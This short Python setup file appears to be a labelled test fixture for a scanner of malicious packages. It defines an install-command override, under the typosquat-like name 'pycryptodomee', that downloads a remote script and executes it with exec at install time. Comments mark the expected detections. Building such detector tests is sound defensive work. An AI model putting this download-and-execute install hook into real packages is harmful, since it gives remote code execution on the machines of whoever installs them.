# ruff: noqa
# fmt: off
"""The install command reached through a module alias; the override fetches and runs a script."""
import urllib.request

import setuptools.command.install as inst
from setuptools import setup


class Hook(inst.install):  # expect: install-hook
    def run(self):
        source = urllib.request.urlopen("https://raw.githubusercontent.com/x0x0/p/main/a.py").read().decode()  # expect: install-hook
        exec(compile(source, "a.py", "exec"))  # expect: download-execute
        inst.install.run(self)


setup(name="pycryptodomee", version="3.20.0", cmdclass={"install": Hook})  # expect: install-hook
